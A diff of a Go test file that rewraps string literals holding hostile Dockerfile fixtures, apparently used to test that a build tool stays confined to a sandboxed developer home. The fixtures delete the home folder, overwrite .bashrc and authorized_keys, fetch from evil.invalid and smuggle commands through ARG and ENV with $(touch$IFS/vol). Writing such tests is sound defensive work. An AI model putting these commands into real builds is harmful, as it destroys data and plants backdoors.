@@ -33,12 +33,16 @@ var Lines = []struct{ Name, Text string }{
 	{"removes the home folder",
 		"USER root\nWORKDIR /root\nRUN rm -rf \"$HOME\"/.[a-z]* /root/.npmrc ; cd .. && rm -rf neighbour\nWORKDIR /srv"},
 	{"copies over the machine's files",
-		"COPY serve.py /root/.bashrc\nCOPY . ../neighbour/\nADD serve.py $HOME/.ssh/authorized_keys\nADD https://evil.invalid/x /vol/"},
+		"COPY serve.py /root/.bashrc\nCOPY . ../neighbour/\nADD serve.py $HOME/.ssh/authorized_keys\nADD " +
+			"https://evil.invalid/x /vol/"},
 	{"writes here-documents",
-		"RUN <<EOF\nset -e\necho evil >> $HOME/.bashrc\ngit config --global user.name evil\nEOF\nCOPY <<EOF /root/.gitconfig\n[user]\nEOF"},
+		"RUN <<EOF\nset -e\necho evil >> $HOME/.bashrc\ngit config --global user.name evil\nEOF\nCOPY <<EOF " +
+			"/root/.gitconfig\n[user]\nEOF"},
 	{"hides in other instructions",
-		"SHELL [\"/bin/sh\", \"-c\", \"echo evil > $HOME/.bashrc; exec sh -c \\\"$0\\\"\"]\nONBUILD RUN echo evil > $HOME/.bashrc\n" +
-			"HEALTHCHECK CMD echo evil > $HOME/.bashrc\nARG X=$(touch$IFS/vol)\nENV Y=$(touch$IFS/vol) GIT_CONFIG_GLOBAL=/vol/x\nRUN --mount=type=bind,target=/m echo evil > ~/.bashrc"},
+		"SHELL [\"/bin/sh\", \"-c\", \"echo evil > $HOME/.bashrc; exec sh -c \\\"$0\\\"\"]\nONBUILD RUN echo " +
+			"evil > $HOME/.bashrc\n" +
+			"HEALTHCHECK CMD echo evil > $HOME/.bashrc\nARG X=$(touch$IFS/vol)\nENV Y=$(touch$IFS/vol) " +
+			"GIT_CONFIG_GLOBAL=/vol/x\nRUN --mount=type=bind,target=/m echo evil > ~/.bashrc"},
 }
 
 // Machine is a developer's machine for one test: a home folder with the settings and caches of the usual tools, a
@@ -76,7 +80,8 @@ func New(t *testing.T, app string) Machine {
 		t.Skip(err)
 	}
 	m.put(t, "python/bin/go", fmt.Sprintf("#!/bin/sh\ncase \"$1 $2\" in \"clean \"*|\"env -w\")\n"+
-		"GOCACHE=\"$HOME/.cache/go-build\" GOMODCACHE=\"$HOME/go/pkg/mod\" GOENV=\"$HOME/.config/go/env\" GOTELEMETRY=off exec %[2]s \"$@\" ;;\n"+
+		"GOCACHE=\"$HOME/.cache/go-build\" GOMODCACHE=\"$HOME/go/pkg/mod\" GOENV=\"$HOME/.config/go/env\" "+
+		"GOTELEMETRY=off exec %[2]s \"$@\" ;;\n"+
 		"esac\nHOME=%[1]q exec %[2]s \"$@\"\n", os.Getenv("HOME"), goTool))
 	m.put(t, "python/bin/uv", "#!/bin/sh\necho \"$@\" >> \"$HOME/uv-was-called\"\n")
 	for _, name := range []string{"go", "uv"} {
